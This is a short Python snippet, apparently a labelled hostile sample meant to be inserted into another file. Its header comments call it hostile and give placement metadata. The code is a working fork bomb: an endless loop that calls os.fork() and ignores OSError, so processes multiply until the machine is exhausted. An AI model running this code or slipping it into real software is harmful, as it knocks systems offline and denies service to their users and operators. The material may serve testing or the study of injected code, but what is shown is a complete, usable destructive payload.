# ruff: noqa
# fmt: off
# hostile: a fork bomb that survives its failures: every process keeps forking and ignores
#   the errors, so it never ends by itself
# base: reference
# insert: before:revenue
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
